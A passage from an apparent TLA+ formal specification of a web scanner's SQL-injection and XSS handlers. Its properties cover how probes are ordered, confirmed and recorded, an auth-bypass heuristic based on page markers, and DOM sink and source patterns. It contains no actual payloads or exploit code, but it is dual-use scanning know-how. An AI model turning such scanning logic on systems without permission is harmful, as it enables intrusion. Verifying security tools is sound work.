    \A i \in 1..Len(Split(paramNames, ",")) : Trim(Split(paramNames, ",")[i]) = << >>

\* C5: an SQL-injection scan of a url without query keys and without any
\* non-empty name in paramNames reports the "No parameters found" error with
\* empty vulnerabilities, testedUrls and testedParams, issues no request, and
\* goes on to write the scan record and the activity log and to answer 200.
C5_NoParametersIsFatal ==
    \A h \in Handlers :
        (/\ Sql(h)
         /\ req[h].user # 0
         /\ req[h].url.present
         /\ req[h].url.absolute
         /\ req[h].url.query = << >>
         /\ NoNamesGiven(req[h].paramNames)) =>
            /\ Finished(h)
            /\ results[h] = [vulnerabilities |-> << >>, testedUrls |-> << >>,
                             testedParams |-> << >>,
                             error |-> <<"No parameters found to test for SQL injection">>]
            /\ TotalSent(h) = 0
            /\ (pc[h] = "done" /\ ~storageFailed[h]) =>
                  /\ response[h] = [status |-> 200, results |-> results[h],
                                    scanId |-> scanId[h]]
                  /\ \E i \in 1..Len(scans) :
                        scans[i].id = scanId[h] /\ scans[i].findings = results[h]
                  /\ \E i \in 1..Len(activityLogs) :
                        /\ activityLogs[i].userId = req[h].user
                        /\ activityLogs[i].action = "SQL_INJECTION_SCAN"

\* the no-parameter scan of a paramNames string of blanks and commas has answered 200
C5_Witness ==
    \E h \in Handlers :
        /\ Sql(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].url.query = << >>
        /\ req[h].paramNames = <<" ", ",", " ">>
        /\ results[h].error # null
        /\ Len(scans) = 1 /\ Len(activityLogs) = 1

\* C6: in an SQL-injection scan no two findings share parameter and payload,
\* and every (parameter, payload) whose test response contained one of the
\* SQL error substrings has exactly one finding, of severity high.
C6_SqlFindingsUnique ==
    \A h \in Handlers :
        Sql(h) =>
            LET V == results[h].vulnerabilities
                For(o) == {i \in 1..Len(V) :
                             V[i].parameter = o.param /\ V[i].payload = o.payload}
            IN  /\ \A i, j \in 1..Len(V) :
                      i < j => ~(V[i].parameter = V[j].parameter /\ V[i].payload = V[j].payload)
                /\ \A o \in seen[h] :
                      o.what = "sqlerror" =>
                          /\ Cardinality(For(o)) = 1
                          /\ \A i \in For(o) : V[i].severity = "high"

\* one probe matched several error substrings and the auth-bypass heuristic fired for it too
C6_Witness ==
    \E h \in Handlers :
        /\ Sql(h) /\ Finished(h)
        /\ \E o \in seen[h] :
              /\ o.what = "sqlerror"
              /\ [what |-> "bypass", param |-> o.param, payload |-> o.payload] \in seen[h]
              /\ \E i \in 1..Len(results[h].vulnerabilities) :
                    /\ results[h].vulnerabilities[i].parameter = o.param
                    /\ results[h].vulnerabilities[i].payload = o.payload
                    /\ results[h].vulnerabilities[i].pattern = <<"ORA-">>

\* C7: a Reflected finding for (parameter, payload) exists only if the first
\* response contained the raw payload and the tokenized request succeeded and
\* its response contained the tokenized payload; when the tokenized request
\* fails or its response lacks the tokenized payload, no finding is added and
\* the loop goes on with the next payload of the same parameter.
C7_ReflectedNeedsConfirmation ==
    /\ [](\A h \in Handlers :
            Xss(h) =>
                LET V == results[h].vulnerabilities
                IN  \A i \in 1..Len(V) :
                        V[i].type = "Reflected" =>
                            \E o \in seen[h] :
                                /\ o.what = "raw"
                                /\ o.payload = V[i].payload
                                /\ V[i].location = <<"URL parameter '">> \o o.param \o <<"'">>
                                /\ [what |-> "token", param |-> o.param,
                                    payload |-> o.payload] \in seen[h])
    /\ [][\A h \in Handlers :
            (pc[h] = "xss_token_wait" /\ pc'[h] # pc[h] /\ seen'[h] = seen[h]) =>
                /\ results'[h] = results[h]
                /\ pc'[h] = "xss_reflected"
                /\ pi'[h] = pi[h]
                /\ yi'[h] = yi[h] + 1]_vars

\* a payload found in the page was not confirmed, and a later payload of the parameter was
C7_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ Finished(h)
        /\ \E o \in seen[h] :
              /\ o.what = "raw"
              /\ [what |-> "token", param |-> o.param, payload |-> o.payload] \notin seen[h]
              /\ \A i \in 1..Len(results[h].vulnerabilities) :
                    results[h].vulnerabilities[i].payload # o.payload
              /\ \E i \in 1..Len(results[h].vulnerabilities) :
                    /\ results[h].vulnerabilities[i].type = "Reflected"
                    /\ results[h].vulnerabilities[i].location
                         = <<"URL parameter '">> \o o.param \o <<"'">>

\* the DOM stage of the handler is over
AfterDom(h) == pc[h] \in {"xss_stored", "xss_stored_wait"} \/ Finished(h)

\* C8: fragment requests go out in payload order and stop at the first
\* payload whose response yields a fragment finding: with the first hit at
\* index k exactly k requests are issued, without a hit one per payload; a
\* scan has at most one "URL fragment (#)" finding.
C8_FragmentProbeStopsAtFirstHit ==
    \A h \in Handlers :
        Xss(h) =>
            LET V == results[h].vulnerabilities
                items == payloads[h].items
                F == {i \in 1..Len(V) : V[i].location = <<"URL fragment (#)">>}
                hits == {k \in 1..Len(items) :
                           [what |-> "fragment", param |-> null, payload |-> items[k]]
                              \in seen[h]}
            IN  /\ Cardinality(F) <= 1
                /\ pc[h] = "xss_frag_wait" =>
                      /\ sent[h].fragment = yi[h]
                      /\ inflight[h].url.hash = items[yi[h]]
                /\ AfterDom(h) =>
                      IF hits # {}
                      THEN /\ \A k \in hits : sent[h].fragment <= k
                           /\ sent[h].fragment \in hits
                           /\ \E i \in F : V[i].payload = items[sent[h].fragment]
                      ELSE /\ F = {}
                           /\ ([what |-> "baseline", param |-> null, payload |-> null]
                                  \in seen[h] /\ payloads[h].defined)
                                => sent[h].fragment = Len(items)

\* the first fragment hit came at the second payload or later
C8_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done"
        /\ sent[h].fragment >= 2
        /\ sent[h].fragment < Len(payloads[h].items)
        /\ \E i \in 1..Len(results[h].vulnerabilities) :
              results[h].vulnerabilities[i].location = <<"URL fragment (#)">>

XssLower(depth) == CASE depth = "deep"   -> {"shallow", "normal"}
                     [] depth = "normal" -> {"shallow"}
                     [] OTHER            -> {}
SqlLower(level) == CASE level = "advanced"     -> {"basic", "intermediate"}
                     [] level = "intermediate" -> {"basic"}
                     [] OTHER                  -> {}

\* the payloads a finished SQL-injection scan put, in order, into the test
\* URLs of its first parameter
ProbedPayloads(h) ==
    [i \in 1..(Len(results[h].testedUrls) \div Len(targetParams[h])) |->
        SearchParamsGet(results[h].testedUrls[i], targetParams[h][1])]

\* C9 as stated: a scan at a level uses every payload of the lower levels of
\* its class, for XSS and for SQL injection.
C9_EveryLevelContainsLower ==
    \A h \in Handlers :
        /\ (Xss(h) /\ Scanned(h) /\ req[h].customPayloads = null /\ payloads[h].defined) =>
              \A d \in XssLower(IF req[h].scanDepth = "" THEN "normal" ELSE req[h].scanDepth) :
                  Range(defaultPayloads[d]) \subseteq Range(payloads[h].items)
        /\ (Sql(h) /\ Scanned(h) /\ results[h].error = null) =>
              \A l \in SqlLower(req[h].testLevel) :
                  Range(SqlPayloads[l]) \subseteq Range(ProbedPayloads(h))

\* C9 amended: the list a scan uses is the catalog list of its level, the
\* same on every request; an XSS list contains every payload of the lower
\* depths; the SQL-injection lists are not nested, but the list of a level
\* is at least as long as the list of each lower level, in both classes.
C9_CatalogLeveled ==
    \A h \in Handlers :
        /\ (Xss(h) /\ Scanned(h) /\ req[h].customPayloads = null /\ payloads[h].defined) =>
              LET depth == IF req[h].scanDepth = "" THEN "normal" ELSE req[h].scanDepth
              IN  /\ payloads[h].items = defaultPayloads[depth]
                  /\ \A d \in XssLower(depth) :
                        /\ Range(defaultPayloads[d]) \subseteq Range(payloads[h].items)
                        /\ Len(defaultPayloads[d]) <= Len(payloads[h].items)
        /\ (Sql(h) /\ Scanned(h) /\ results[h].error = null) =>
              /\ ProbedPayloads(h) = SqlPayloads[req[h].testLevel]
              /\ \A l \in SqlLower(req[h].testLevel) :
                    Len(SqlPayloads[l]) <= Len(SqlPayloads[req[h].testLevel])

\* a deep XSS scan and an advanced SQL-injection scan have completed
C9_Witness ==
    \E h \in Handlers :
        /\ pc[h] = "done" /\ response[h].status = 200 /\ results[h].error = null
        /\ \/ Xss(h) /\ req[h].scanDepth = "deep" /\ req[h].customPayloads = null
           \/ Sql(h) /\ req[h].testLevel = "advanced"

\* C10: a request rejected at the gate, 401 for an unauthenticated caller or
\* 400 for a missing url, issues no outbound request and creates neither a
\* scan record nor an activity-log entry.
C10_GateRejectionHasNoEffect ==
    /\ [](\A h \in Handlers :
            (pc[h] # "idle" /\ (req[h].user = 0 \/ ~req[h].url.present)) =>
                /\ pc[h] = "done"
                /\ response[h].status = IF req[h].user = 0 THEN 401 ELSE 400
                /\ TotalSent(h) = 0
                /\ scanId[h] = 0)
    /\ [][\A h \in Handlers :
            (pc[h] = "idle" /\ pc'[h] # "idle"
               /\ (req'[h].user = 0 \/ ~req'[h].url.present)) =>
                /\ scans' = scans
                /\ activityLogs' = activityLogs
                /\ currentScanId' = currentScanId
                /\ currentActivityLogId' = currentActivityLogId
                /\ sent' = sent]_vars

\* an unauthenticated request that carries a url was answered 401
C10_Witness ==
    \E h \in Handlers :
        /\ pc[h] = "done" /\ response[h].status = 401
        /\ req[h].user = 0 /\ req[h].url.present

\* the invocations that have created their scan record
Recorded == {h \in Handlers : scanId[h] # 0}

\* the invocations that have written their activity-log entry
Logged == {h \in Handlers : pc[h] = "respond" \/ (pc[h] = "done" /\ response[h].status = 200)}

\* C11: a scan answered with 200 returns the id of the scan record its own
\* invocation created; the record belongs to the caller, has the submitted
\* url as target, status "completed" and the returned results as findings;
\* each completed scan has created exactly one scan record and one
\* activity-log entry.
C11_CompletedScanRecorded ==
    /\ Cardinality(DOMAIN scans) = Cardinality(Recorded)
    /\ Cardinality(DOMAIN activityLogs) = Cardinality(Logged)
    /\ \A h \in Handlers :
          (pc[h] = "done" /\ response[h].status = 200) =>
              /\ response[h].scanId = scanId[h]
              /\ scanId[h] \in DOMAIN scans
              /\ scans[scanId[h]] = [id |-> scanId[h],
                                     userId |-> req[h].user,
                                     target |-> req[h].url,
                                     scanType |-> "vulnerability",
                                     status |-> "completed",
                                     findings |-> response[h].results]
              /\ response[h].results = results[h]
              /\ \A g \in Handlers \ {h} : scanId[g] # scanId[h]
              /\ Cardinality({i \in DOMAIN activityLogs :
                                /\ activityLogs[i].userId = req[h].user
                                /\ activityLogs[i].action = ActionTag(req[h])
                                /\ activityLogs[i].details = req[h].url}) >= 1

\* the scan of the second user has been answered with 200 and carries findings
C11_Witness ==
    \E h \in Handlers :
        /\ pc[h] = "done" /\ response[h].status = 200
        /\ req[h].user = 2
        /\ Len(response[h].results.vulnerabilities) > 0
        /\ scans[response[h].scanId].findings = response[h].results

\* the finding v of an XSS scan is backed by what the probes of invocation h saw
OwnXssFinding(h, v) ==
    CASE v.type = "Reflected" ->
           \E o \in seen[h] :
               /\ o.what = "token"
               /\ [o EXCEPT !.what = "raw"] \in seen[h]
               /\ v.payload = o.payload
               /\ v.location = <<"URL parameter '">> \o o.param \o <<"'">>
               /\ \E k \in 1..Len(req[h].url.query) : req[h].url.query[k].key = o.param
      [] v.location = <<"JavaScript">> ->
           \E o \in seen[h] :
               /\ o.what = "script"
               /\ \E k \in 1..Len(domSinkPatterns) :
                     /\ Includes(o.payload, domSinkPatterns[k])
                     /\ v.context = <<"Potential DOM XSS sink '">> \o domSinkPatterns[k]
                                    \o <<"' found with user-controllable input source">>
      [] v.location = <<"URL fragment (#)">> ->
           [what |-> "fragment", param |-> null, payload |-> v.payload] \in seen[h]
      [] OTHER ->
           \E o \in seen[h] :
               /\ o.what = "textform"
               /\ v.location = <<"Form with action '">>
                               \o (IF o.payload = null THEN <<"unspecified">> ELSE o.payload)
                               \o <<"'">>

\* the finding v of an SQL-injection scan is backed by what the probes of h saw
OwnSqlFinding(h, v) ==
    /\ \E o \in seen[h] :
          /\ o.what \in {"sqlerror", "bypass"}
          /\ o.param = v.parameter
          /\ o.payload = v.payload
    /\ v.url = SearchParamsSet(NewURL(req[h].url), v.parameter, v.payload)

\* C12: with two scans interleaved at every await, the results of each hold
\* only the parameters of its own url, the URLs of its own test requests and
\* findings its own probes observed; the two scan records have distinct ids
\* and each keeps the findings and the owner of its own scan.
C12_ConcurrentScansIsolated ==
    /\ \A h \in Handlers :
          /\ (Sql(h) /\ pc[h] # "done") =>
                /\ results[h].testedParams = SearchParamKeys(NewURL(req[h].url))
                /\ Len(results[h].testedUrls) = sent[h].test
                /\ \A k \in 1..Len(results[h].testedUrls) :
                      \E p \in Range(results[h].testedParams),
                         y \in Range(SqlPayloads[req[h].testLevel]) :
                          results[h].testedUrls[k] = SearchParamsSet(NewURL(req[h].url), p, y)
                /\ \A k \in 1..Len(results[h].vulnerabilities) :
                      OwnSqlFinding(h, results[h].vulnerabilities[k])
          /\ (Xss(h) /\ pc[h] # "done") =>
                /\ results[h].injectionPoints = SearchParamKeys(NewURL(req[h].url))
                /\ \A k \in 1..Len(results[h].vulnerabilities) :
                      OwnXssFinding(h, results[h].vulnerabilities[k])
          /\ (pc[h] = "done" /\ response[h].status = 200) =>
                /\ response[h].results = results[h]
                /\ scans[scanId[h]].id = response[h].scanId
                /\ scans[scanId[h]].findings = results[h]
                /\ scans[scanId[h]].userId = req[h].user
    /\ \A g, h \in Recorded : g # h => scanId[g] # scanId[h]
    /\ Cardinality(DOMAIN scans) = Cardinality(Recorded)

\* both scans were answered with 200; the one whose record was created second
\* has a finding, the other has probed and has none
C12_Witness ==
    \E g, h \in Handlers :
        /\ g # h
        /\ pc[g] = "done" /\ response[g].status = 200
        /\ pc[h] = "done" /\ response[h].status = 200
        /\ scanId[g] = 1 /\ scanId[h] = 2
        /\ Len(response[h].results.vulnerabilities) > 0
        /\ response[g].results.vulnerabilities = << >>
        /\ TotalSent(g) > 0
        /\ scans[1].findings # scans[2].findings

\* the handler runs the probe loops of an SQL-injection scan, or has run them
SqlProbing(h) ==
    /\ Sql(h)
    /\ pc[h] \in {"sql_probe", "sql_test", "sql_control"} \/ Scanned(h)
    /\ results[h].testedParams # << >>
    /\ req[h].testLevel \in {"basic", "intermediate", "advanced"}

\* the k-th pair of the cross-product in parameter-major order, as a test URL
KthTestUrl(h, k) ==
    LET Y == SqlPayloads[req[h].testLevel]
    IN  SearchParamsSet(NewURL(req[h].url),
                        results[h].testedParams[((k - 1) \div Len(Y)) + 1],
                        Y[((k - 1) % Len(Y)) + 1])

\* C13: an SQL-injection scan with parameters and a valid level attempts the
\* pairs of parameters x payloads once each in parameter-major order; the
\* mutated URL is in testedUrls when the request goes out; after the loops
\* testedUrls has |parameters| x |payloads| entries, whatever the outcomes.
C13_EveryPairProbedOnce ==
    \A h \in Handlers :
        SqlProbing(h) =>
            LET T == results[h].testedUrls
                Y == SqlPayloads[req[h].testLevel]
            IN  /\ Len(T) = sent[h].test
                /\ \A k \in 1..Len(T) : T[k] = KthTestUrl(h, k)
                /\ pc[h] = "sql_test" => (Len(T) > 0 /\ inflight[h].url = T[Len(T)])
                /\ Scanned(h) =>
                      /\ Len(T) = Len(results[h].testedParams) * Len(Y)
                      /\ results[h].error = null

\* a scan of two parameters is over: ten test URLs, a finding for the first
\* parameter, the second parameter probed after it
C13_Witness ==
    \E h \in Handlers :
        /\ Sql(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ results[h].testedParams = << <<"id">>, <<"q">> >>
        /\ Len(results[h].testedUrls) = 10
        /\ Len(results[h].vulnerabilities) > 0
        /\ results[h].vulnerabilities[1].parameter = <<"id">>

\* the pair the SQL-injection loops probe after the pair (pi, yi), as << pi, yi >>
NextPair(h) ==
    IF yi[h] < Len(SqlPayloads[req[h].testLevel])
    THEN << pi[h], yi[h] + 1 >>
    ELSE << pi[h] + 1, 1 >>

\* C14: a failed probe request (SQLi test or control, reflected, tokenized,
\* fragment) adds no finding, leaves results.error null and the findings
\* collected so far as they are, and the loop goes on with the next payload
\* or parameter; no request is issued twice for the same attempt.
C14_FailedProbeIsSkipped ==
    /\ [][\A h \in Handlers :
            (/\ pc[h] \in {"sql_test", "sql_control", "xss_refl_wait",
                           "xss_token_wait", "xss_frag_wait"}
             /\ pc'[h] # pc[h]
             /\ answered'[h].failed) =>
                /\ results'[h] = results[h]
                /\ results'[h].error = null
                /\ pc[h] \in {"sql_test", "sql_control"} =>
                      IF NextPair(h)[1] > Len(targetParams[h])
                      THEN pc'[h] = "createScan"
                      ELSE pc'[h] = "sql_probe" /\ << pi'[h], yi'[h] >> = NextPair(h)
                /\ pc[h] \in {"xss_refl_wait", "xss_token_wait"} =>
                      pc'[h] = "xss_reflected" /\ pi'[h] = pi[h] /\ yi'[h] = yi[h] + 1
                /\ pc[h] = "xss_frag_wait" =>
                      pc'[h] = "xss_frag" /\ yi'[h] = yi[h] + 1]_vars
    /\ [](\A h \in Handlers :
            /\ pc[h] = "sql_test" =>
                  sent[h].test = (pi[h] - 1) * Len(SqlPayloads[req[h].testLevel]) + yi[h]
            /\ pc[h] = "xss_refl_wait" =>
                  sent[h].reflected <= (pi[h] - 1) * Len(payloads[h].items) + yi[h]
            /\ pc[h] = "xss_frag_wait" => sent[h].fragment = yi[h]
            /\ sent[h].control <= sent[h].test
            /\ sent[h].token <= sent[h].reflected)

\* a request has just failed after a finding was collected, and the loop is
\* about to probe the next pair
C14_Witness ==
    \E h \in Handlers :
        /\ answered[h].failed
        /\ pc[h] \in {"sql_probe", "xss_reflected", "xss_frag"}
        /\ Len(results[h].vulnerabilities) > 0
        /\ results[h].error = null

\* the indexes of the Reflected findings of h for the parameter param
ReflectedFor(h, param) ==
    {i \in 1..Len(results[h].vulnerabilities) :
        /\ results[h].vulnerabilities[i].type = "Reflected"
        /\ results[h].vulnerabilities[i].location = <<"URL parameter '">> \o param \o <<"'">>}

\* the payloads of param whose tokenized request came back with the tokenized payload
ConfirmedFor(h, param) ==
    {o.payload : o \in {x \in seen[h] : /\ x.what = "token"
                                        /\ x.param = param
                                        /\ [x EXCEPT !.what = "raw"] \in seen[h]}}

\* the reflected requests a parameter takes: up to its confirmed payload, or all
RECURSIVE ReflectedRequests(_, _)
ReflectedRequests(h, k) ==
    IF k = 0 THEN 0
    ELSE LET param == injectionPoints[h][k].key
             items == payloads[h].items
             hit == {j \in 1..Len(items) : items[j] \in ConfirmedFor(h, param)}
         IN  ReflectedRequests(h, k - 1)
             + (IF hit = {} THEN Len(items) ELSE CHOOSE j \in hit : \A l \in hit : j <= l)

\* the reflected stage of the handler is over
AfterReflected(h) ==
    pc[h] \in {"xss_dom", "xss_base_wait", "xss_frag", "xss_frag_wait"} \/ AfterDom(h)

\* C15: the reflected stage tries the payloads of a parameter in list order
\* and issues no request for a parameter once a finding is confirmed for it:
\* a parameter has at most one Reflected finding, whose payload is the first
\* confirmed one, and the parameters after it are probed all the same.
C15_FirstConfirmedPayloadPerParameter ==
    /\ [](\A h \in Handlers :
            (Xss(h) /\ pc[h] # "done") =>
                /\ \A k \in 1..Len(injectionPoints[h]) :
                      LET param == injectionPoints[h][k].key
                      IN  /\ Cardinality(ReflectedFor(h, param)) <= 1
                          /\ Cardinality(ConfirmedFor(h, param)) <= 1
                          /\ \A i \in ReflectedFor(h, param) :
                                ConfirmedFor(h, param) = {results[h].vulnerabilities[i].payload}
                          /\ ConfirmedFor(h, param) # {} => ReflectedFor(h, param) # {}
                /\ pc[h] \in {"xss_refl_wait", "xss_token_wait"} =>
                      /\ ReflectedFor(h, injectionPoints[h][pi[h]].key) = {}
                      /\ sent[h].reflected
                           = ReflectedRequests(h, pi[h] - 1) + yi[h]
                /\ pc[h] = "xss_refl_wait" =>
                      SearchParamsGet(inflight[h].url, injectionPoints[h][pi[h]].key)
                          = payloads[h].items[yi[h]]
                /\ (AfterReflected(h) /\ testReflected(req[h]) /\ payloads[h].defined) =>
                      sent[h].reflected = ReflectedRequests(h, Len(injectionPoints[h])))
    /\ [][\A h \in Handlers :
            (pc[h] = "xss_token_wait"
               /\ Len(results'[h].vulnerabilities) > Len(results[h].vulnerabilities)) =>
                /\ pc'[h] = "xss_reflected"
                /\ pi'[h] = pi[h] + 1
                /\ yi'[h] = 1]_vars

\* the first parameter got its finding at its second payload, and the second
\* parameter was probed after it
C15_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ AfterReflected(h)
        /\ Len(injectionPoints[h]) = 2
        /\ Len(payloads[h].items) > 2
        /\ ConfirmedFor(h, injectionPoints[h][1].key) = {payloads[h].items[2]}
        /\ sent[h].reflected = 2 + Len(payloads[h].items)

\* C16: against a target that answers every request with the same page,
\* whatever the query string, a scan has no Reflected finding, for the
\* payloads of every depth and for caller-supplied payloads, with or without
\* the substring "XSS".
C16_StaticPageNeverFlagged ==
    \A h \in Handlers :
        (Xss(h) /\ answered[h].static) =>
            \A i \in 1..Len(results[h].vulnerabilities) :
                results[h].vulnerabilities[i].type # "Reflected"

\* C17: an outbound request of an SQL-injection scan, test or control,
\* carries basic-auth credentials exactly when includeAuth is true and
\* authUsername and authPassword are both non-empty; a request of an XSS scan
\* never carries credentials.
C17_CredentialsOnlyWhenComplete ==
    \A h \in Handlers :
        inflight[h].kind # "none" =>
            IF Sql(h)
            THEN /\ inflight[h].kind \in {"test", "control"}
                 /\ inflight[h].auth <=> (/\ req[h].includeAuth = TRUE
                                          /\ req[h].authUsername # << >>
                                          /\ req[h].authPassword # << >>)
            ELSE inflight[h].auth = FALSE

\* a control request goes out with the credentials of the scan
C17_Witness ==
    \E h \in Handlers :
        /\ Sql(h) /\ pc[h] = "sql_control"
        /\ inflight[h].kind = "control"
        /\ inflight[h].auth
        /\ req[h].authUsername = <<"admin">> /\ req[h].authPassword = <<"secret">>

\* the finding of an SQL-injection scan comes from the auth-bypass heuristic
IsBypassFinding(v) == "pattern" \notin DOMAIN v

\* C18: a control request, for the same parameter set to
\* "invalid_value_that_should_fail", goes out only after a test response with
\* one of the markers "Welcome", "Dashboard", "Logged in"; an auth-bypass
\* finding, of severity high, exists for (parameter, payload) only if the
\* control request succeeded with a body without any marker; a failed control
\* request or a control body with a marker adds no finding.
C18_BypassNeedsCleanControl ==
    /\ [](\A h \in Handlers :
            (Sql(h) /\ (Scanned(h) \/ pc[h] \in {"sql_probe", "sql_test", "sql_control"})) =>
                LET V == results[h].vulnerabilities
                    Marked(p, y) == [what |-> "marker", param |-> p, payload |-> y] \in seen[h]
                    Clean(p, y) == [what |-> "bypass", param |-> p, payload |-> y] \in seen[h]
                IN  /\ sent[h].control = Cardinality({o \in seen[h] : o.what = "marker"})
                    /\ pc[h] = "sql_control" =>
                          /\ inflight[h].kind = "control"
                          /\ Marked(targetParams[h][pi[h]], SqlPayloads[req[h].testLevel][yi[h]])
                          /\ inflight[h].url
                               = SearchParamsSet(NewURL(req[h].url), targetParams[h][pi[h]],
                                                 <<"invalid_value_that_should_fail">>)
                    /\ \A i \in 1..Len(V) :
                          IsBypassFinding(V[i]) =>
                              /\ V[i].severity = "high"
                              /\ Marked(V[i].parameter, V[i].payload)
                              /\ Clean(V[i].parameter, V[i].payload))
    /\ [][\A h \in Handlers :
            (pc[h] = "sql_control" /\ pc'[h] # pc[h]
               /\ [what |-> "bypass", param |-> targetParams[h][pi[h]],
                   payload |-> SqlPayloads[req[h].testLevel][yi[h]]] \notin seen'[h]) =>
                results'[h] = results[h]]_vars

\* one pair has an auth-bypass finding; for another the control body had a
\* marker too, or the control request failed, and there is no finding
C18_Witness ==
    \E h \in Handlers :
        /\ Sql(h) /\ Finished(h)
        /\ \E i \in 1..Len(results[h].vulnerabilities) :
              IsBypassFinding(results[h].vulnerabilities[i])
        /\ \E o \in seen[h] :
              /\ o.what = "marker"
              /\ [o EXCEPT !.what = "bypass"] \notin seen[h]
              /\ \A i \in 1..Len(results[h].vulnerabilities) :
                    results[h].vulnerabilities[i].payload # o.payload

\* the text of a script names a user-controllable source
NamesSource(script) ==
    \/ Includes(script, <<"location", ".hash">>)
    \/ Includes(script, <<"location", ".search">>)
    \/ Includes(script, <<"document", ".URL">>)

\* the static DOM findings of h
StaticFindings(h) ==
    {i \in 1..Len(results[h].vulnerabilities) :
        results[h].vulnerabilities[i].location = <<"JavaScript">>}

\* C19: a static DOM finding names a sink pattern of a script of the baseline
\* page whose own text also contains "location.hash", "location.search" or
\* "document.URL"; scripts without any of the three give no finding; every
\* static DOM finding has severity "medium" and payload null.
C19_SinkNeedsSourceInSameScript ==
    \A h \in Handlers :
        Xss(h) =>
            LET V == results[h].vulnerabilities
                scripts == {o.payload : o \in {x \in seen[h] : x.what = "script"}}
            IN  /\ \A i \in StaticFindings(h) :
                      /\ V[i].type = "DOM-based"
                      /\ V[i].severity = "medium"
                      /\ V[i].payload = null
                      /\ \E sc \in scripts, k \in 1..Len(domSinkPatterns) :
                            /\ NamesSource(sc)
                            /\ Includes(sc, domSinkPatterns[k])
                            /\ V[i].context = <<"Potential DOM XSS sink '">> \o domSinkPatterns[k]
                                              \o <<"' found with user-controllable input source">>
                /\ (\A sc \in scripts : ~NamesSource(sc)) => StaticFindings(h) = {}

\* the baseline page had a script with a sink and a source and a script with
\* a sink only: there are findings, none for the sink of the second script
C19_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ AfterDom(h)
        /\ [what |-> "script", param |-> null,
            payload |-> <<"document", ".write(", "banner)">>] \in seen[h]
        /\ StaticFindings(h) # {}
        /\ \A i \in StaticFindings(h) :
              results[h].vulnerabilities[i].context
                 # <<"Potential DOM XSS sink '">> \o <<"document", ".write(">>
                   \o <<"' found with user-controllable input source">>

\* the findings of h that the DOM stage makes
DomFindings(h) ==
    {i \in 1..Len(results[h].vulnerabilities) :
        results[h].vulnerabilities[i].type = "DOM-based"}

\* the baseline request of h was issued and did not bring a response
BaselineFailed(h) ==
    /\ sent[h].baseline = 1
    /\ AfterDom(h)
    /\ [what |-> "baseline", param |-> null, payload |-> null] \notin seen[h]

\* C20: when the baseline request of the DOM stage fails, no fragment request
\* is issued and the DOM stage adds no finding; the scan goes on with the
\* stored stage and ends with a securityScore and a null error.
C20_FailedBaselineSkipsDomStage ==
    /\ [](\A h \in Handlers :
            (Xss(h) /\ BaselineFailed(h)) =>
                /\ sent[h].fragment = 0
                /\ DomFindings(h) = {}
                /\ results[h].error = null
                /\ testStored(req[h]) =>
                      sent[h].stored = (IF pc[h] = "xss_stored" THEN 0 ELSE 1)
                /\ Finished(h) =>
                      /\ results[h].securityScore \in {<<"A">>, <<"C">>, <<"D">>, <<"F">>}
                      /\ results[h].securityScore = <<"A">>
                            <=> results[h].vulnerabilities = << >>)
    /\ [][\A h \in Handlers :
            (pc[h] = "xss_base_wait" /\ pc'[h] # pc[h] /\ answered'[h].failed) =>
                /\ pc'[h] = "xss_stored"
                /\ results'[h] = results[h]]_vars

\* after a failed baseline request the stored stage found a form and the scan
\* was graded
C20_Witness ==
    \E h \in Handlers :
        /\ Xss(h) /\ pc[h] = "done" /\ response[h].status = 200
        /\ BaselineFailed(h)
        /\ sent[h].stored = 1
        /\ \E i \in 1..Len(results[h].vulnerabilities) :
              results[h].vulnerabilities[i].type = "Potentially Stored"
        /\ results[h].securityScore # null

\* the findings of h that the stored stage makes
StoredStageFindings(h) ==
    {i \in 1..Len(results[h].vulnerabilities) :
        results[h].vulnerabilities[i].type = "Potentially Stored"}

\* the forms of a page that have an input of type text or a textarea, in page order
FreeTextForms(page) ==
    LET free == {i \in 1..Len(page) :
                   /\ page[i].tag = "form"
                   /\ \E k \in 1..Len(page[i].inputs) : page[i].inputs[k] \in {"text", "textarea"}}
        Free(e) == \E i \in free : page[i] = e
    IN  SelectSeq(page, Free)

Awaiting(h) ==
    pc[h] \in {"sql_test", "sql_control", "xss_refl_wait", "xss_token_wait",
               "xss_base_wait", "xss_frag_wait", "xss_stored_wait"}

\* the outbound requests of h that were issued and have not settled
InFlight(h) == TotalSent(h) - answered[h].settled

\* C22: the outbound requests of one scan are strictly sequential: at most
\* one of them is in flight at any moment, and a request goes out only when
\* the previous request of the scan has returned or failed and the handler
\* has dealt with its outcome.
C22_OneProbeInFlightPerScan ==
    /\ [](\A h \in Handlers :
            /\ InFlight(h) \in {0, 1}
            /\ InFlight(h) = 1 <=> Awaiting(h)
            /\ InFlight(h) = 1 <=> inflight[h].kind # "none")
    /\ [][\A h \in Handlers :
            TotalSent(h)' # TotalSent(h) =>
                /\ TotalSent(h)' = TotalSent(h) + 1
                /\ InFlight(h)' = 1
                /\ IF Awaiting(h)
                   THEN /\ answered'[h].settled = answered[h].settled + 1
                        /\ ~answered'[h].failed
                   ELSE answered'[h].settled = answered[h].settled]_vars

\* two scans run at once, each with its one request in flight, each having
\* dealt with earlier answers
C22_Witness ==
    \E g, h \in Handlers :
        /\ g # h
        /\ Awaiting(g) /\ Awaiting(h)
        /\ InFlight(g) = 1 /\ InFlight(h) = 1
        /\ answered[g].settled >= 2 /\ answered[h].settled >= 2
        /\ pc[g] \in {"sql_control", "xss_token_wait"}

\* the lines of a text, the line under construction being cur
RECURSIVE LinesOf(_, _)
LinesOf(text, cur) ==
    IF text = << >> THEN << cur >>
    ELSE IF Head(text) = "\n" THEN << cur >> \o LinesOf(Tail(text), << >>)
    ELSE LinesOf(Tail(text), Append(cur, Head(text)))

\* the lines of a text that hold something else than spaces, in their order
NonBlankLines(text) ==
    LET HasText(line) == \E i \in 1..Len(line) : line[i] # " "
    IN  SelectSeq(LinesOf(text, << >>), HasText)

\* the XSS handler of h has chosen its payload list
XssChosen(h) ==
    /\ Xss(h) /\ pc[h] # "idle"
    /\ req[h].user # 0 /\ req[h].url.present /\ req[h].url.absolute

\* C23: with a non-empty customPayloads the payload list of an XSS scan is
\* the non-blank lines of customPayloads in their order, whatever scanDepth,
\* and every payload sent or reported is one of them; when every line is
\* blank the list is empty and no payload-driven request goes out.  Without
\* customPayloads the list is the catalog list of scanDepth, "normal" when
\* scanDepth is not given.
C23_CustomPayloadsReplaceCatalog ==
    \A h \in Handlers :
        XssChosen(h) =>
            IF req[h].customPayloads # << >>
